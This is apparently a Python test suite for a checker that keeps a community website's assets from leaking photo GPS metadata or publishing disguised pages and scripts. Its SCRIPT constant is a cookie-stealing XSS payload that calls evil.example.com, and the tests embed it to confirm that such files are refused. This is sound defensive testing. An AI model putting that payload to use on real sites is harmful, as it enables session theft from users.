"""What leaves content/assets/ (issue 30): judged by content, not by name.

A phone photo renamed .jfif, .jpe, .tif, .jpg.bak (or with no suffix) is still found to carry
its GPS position and is refused naming the file; pages and scripts (.html, .xhtml, .js, .mjs)
are refused with the reason, like SVG; only the published types go out, and each must be what
its name says.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from conftest import build
from hypothesis import given, settings
from hypothesis import strategies as st
from mkdocs.exceptions import Abort
from PIL import Image
from test_hostile import paper

from shequbao.content.assettypes import judge
from shequbao.content.sources import Verdict, scan_content

SCRIPT = "<script>fetch('https://evil.example.com/?c='+document.cookie)</script>"


def phone_photo(format: str = "JPEG", **extra) -> bytes:
    """A photo as a phone writes it: the camera, the GPS position of the reporter's home."""
    image = Image.new("RGB", (64, 48), (120, 150, 90))
    exif = Image.Exif()
    exif[0x0110] = "HUAWEI P60"
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 1.0), 3: "E", 4: (121.0, 28.0, 2.0)}
    out = io.BytesIO()
    image.save(out, format, exif=exif.tobytes() if format == "TIFF" else exif, **extra)
    return out.getvalue()


def clean(format: str, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (32, 32), (200, 30, 30) if mode == "RGB" else 128).save(out, format)
    return out.getvalue()


def office(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "<w:document>居民公约</w:document>")
    return out.getvalue()


def verdict(tmp_path: Path, name: str, data: bytes | str) -> str | None:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return judge(path, f"assets/{name}")


@pytest.mark.parametrize("name", ["xianchang.jfif", "xianchang.jpe", "xianchang.jpg.bak", "xianchang", "xianchang.jpg",
                                  "xianchang.JPEG", "xianchang.png.txt", "xianchang.pdf"])
def test_a_phone_photo_is_refused_whatever_its_name(tmp_path, name):
    why = verdict(tmp_path, name, phone_photo())
    assert why and "拍摄信息" in why and "GPS 位置" in why and "HUAWEI P60" in why


@pytest.mark.parametrize("format, name", [("TIFF", "saomiao.tif"), ("TIFF", "saomiao.tiff"), ("PNG", "logo.png"),
                                          ("WEBP", "logo.webp")])
def test_metadata_in_other_picture_formats_is_found(tmp_path, format, name):
    why = verdict(tmp_path, name, phone_photo(format))
    assert why and "GPS 位置" in why, why


def test_a_heic_photo_is_refused_by_its_content(tmp_path):
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
    for name in ("IMG_0412.heic", "IMG_0412.jpg", "IMG_0412.HEIF"):
        why = verdict(tmp_path, name, heic)
        assert why and "HEIC/HEIF" in why


@pytest.mark.parametrize("name, data, says", [
    ("huodong.html", f"<h1>重阳节活动</h1>{SCRIPT}", "网页"), ("huodong.htm", SCRIPT, "网页"),
    ("huodong.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>', "网页"),
    ("tongji.js", "document.title='x'", "脚本"), ("tongji.mjs", "export default 1", "脚本"),
    ("logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>', "不发布 SVG"),
    ("gonggao.xml", f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>', "XML"),
    ("gonggao.txt", f"<!DOCTYPE html><html>{SCRIPT}</html>", "内容却是 HTML/XML 网页"),
    ("paper.css", f"<html><body>{SCRIPT}</body></html>", "内容却是 HTML/XML 网页"),
    ("biaoge.pdf", f"<html>{SCRIPT}</html>", "内容却不是PDF"),
    ("biaoge.docx", "这不是文档", "内容却不是Office 文档"),
    ("ziti.woff2", clean("PNG"), "这是一张 PNG 图片，文件名却以“.woff2”结尾"),
    ("ziti.woff", b"OTTO\x00\x01", "内容却不是WOFF 字体"),
    ("tubiao.png", b"\x89PNG\r\n\x1a\n broken", "已损坏"),
    ("xiazai.exe", b"MZ\x90\x00", "只原样发布这些类型"), ("shuju.json", "{}", "只原样发布这些类型"),
    ("tubiao.jfif", clean("JPEG"), "请改名为 tubiao.jpg"), ("jiu.tubiao.png.bak", clean("PNG"), "请改名为 jiu.tubiao.png"),
    ("saomiao.tif", clean("TIFF"), "浏览器显示不了"),
])
def test_what_may_not_be_published_is_refused_with_the_reason(tmp_path, name, data, says):
    why = verdict(tmp_path, name, data)
    assert why and says in why, why


@pytest.mark.parametrize("name, data", [
    ("paper.css", "body { color: #222; }\n.logo { background: url(\"data:image/svg+xml,<svg xmlns='x'/>\"); }\n"),
    ("logo.png", clean("PNG")), ("logo-grey.png", clean("PNG", "L")), ("banner.jpg", clean("JPEG")),
    ("banner.webp", clean("WEBP")), ("favicon.ico", clean("ICO")), ("dongtu.gif", clean("GIF")),
    ("ziti.woff2", b"wOF2\x00\x01\x00\x00" + b"\x00" * 40), ("ziti.ttf", b"\x00\x01\x00\x00\x00\x10" + b"\x00" * 40),
    ("jumin-gongyue.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
    ("baoming-biao.docx", office("word/document.xml")), ("tongji.xlsx", office("xl/workbook.xml")),
    ("biaoge.zip", office("报名表.doc")), ("jiu-biaoge.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
    ("mingdan.csv", "姓名,楼号\n王阿姨,12号楼\n".encode("gb18030")), ("shuoming.txt", "垃圾分类投放时间：早7点至9点"),
])
def test_published_types_without_metadata_go_out(tmp_path, name, data):
    assert verdict(tmp_path, name, data) is None


def test_refused_assets_are_never_published_and_the_build_names_them(tmp_path):
    site = paper(tmp_path)
    assets = site / "content/assets"
    assets.mkdir()
    (assets / "paper.css").write_text("body { color: #222; }\n", encoding="utf-8")
    (assets / "xianchang.jfif").write_bytes(phone_photo())
    (assets / "huodong.html").write_text(f"<h1>活动</h1>{SCRIPT}", encoding="utf-8")
    listing = scan_content(site / "content")
    named = {problem.path: problem.message for problem in listing.problems}
    assert set(named) == {"assets/xianchang.jfif", "assets/huodong.html"}
    assert "GPS 位置" in named["assets/xianchang.jfif"] and "脚本" in named["assets/huodong.html"]
    assert listing.verdict("assets/xianchang.jfif", set()) is Verdict.KEEP
    assert listing.verdict("assets/huodong.html", set()) is Verdict.KEEP
    assert listing.verdict("assets/paper.css", set()) is Verdict.PUBLISH
    with pytest.raises(Abort):
        build(site)
    assert not (site / "site").exists()


# -- a fuzz: whatever the bytes and the name, a verdict (never an exception), and nothing with metadata goes out

HEADS = [b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"RIFF\x00\x00\x00\x00WEBP", b"II*\x00", b"BM",
         b"\x00\x00\x01\x00", b"wOF2", b"%PDF-1.4", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<html>",
         b"\x00\x00\x00\x18ftypheic", b"\xef\xbb\xbf", "居民".encode()]
NAMES = ["a.css", "a.jpg", "a.png", "a.pdf", "a.docx", "a.txt", "a.woff2", "a.jfif", "a.jpg.bak", "a", "a.html", "a.ico"]


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.sampled_from(HEADS), st.binary(max_size=64), st.sampled_from(NAMES), st.sampled_from([None, "JPEG", "PNG", "WEBP"]))
def test_any_file_gets_a_verdict_and_no_metadata_is_published(tmp_path_factory, head, tail, name, photo):
    folder = tmp_path_factory.mktemp("fuzz")
    data = phone_photo(photo) if photo else head + tail
    why = verdict(folder, name, data)
    assert why is None or isinstance(why, str) and why
    if photo:  # refused; for the position it carries unless the name is refused first (a page, a script)
        assert why and ("GPS 位置" in why or name.endswith(".html")), (name, why)
